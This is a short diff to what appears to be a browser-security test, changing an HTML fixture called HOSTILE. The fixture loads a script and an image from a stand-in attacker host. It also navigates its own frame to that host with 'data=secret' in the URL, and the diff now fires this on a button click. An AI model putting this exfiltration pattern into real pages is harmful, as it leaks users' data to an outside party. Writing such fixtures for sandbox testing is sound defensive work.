@@ -90,7 +90,7 @@ start();
 
 HOSTILE = f"""<!doctype html>
 <html><head><meta charset="utf-8"><title>Hostile</title></head>
-<body><ul id="log"></ul>
+<body><ul id="log"></ul><button id="leave">Leave</button>
 <img id="declared" alt="declared" src="{GOOD}/declared.png">
 <img id="undeclared" alt="undeclared" src="{EVIL}/img.png">
 <script src="{EVIL}/script.js"></script>
@@ -121,8 +121,8 @@ const image = (id) => new Promise((resolve) => {{ const img = document.getElemen
 image("declared").then((r) => log("declared-image", r));
 image("undeclared").then((r) => log("undeclared-image", r));
 start().then(() => log("initialized", "done"));
-// Last, once the rest is told: carry what the view was shown away by navigating its own frame to that host.
-setTimeout(() => {{ log("navigate-self", "asked"); location.href = "{EVIL}/navigated-self?data=secret"; }}, 1500);
+// Last, once the test has read the rest: carry what the view was shown away by navigating its own frame there.
+document.getElementById("leave").onclick = () => {{ location.href = "{EVIL}/navigated-self?data=secret"; }};
 </script></body></html>"""
 
 FLOOD = f"""<!doctype html>
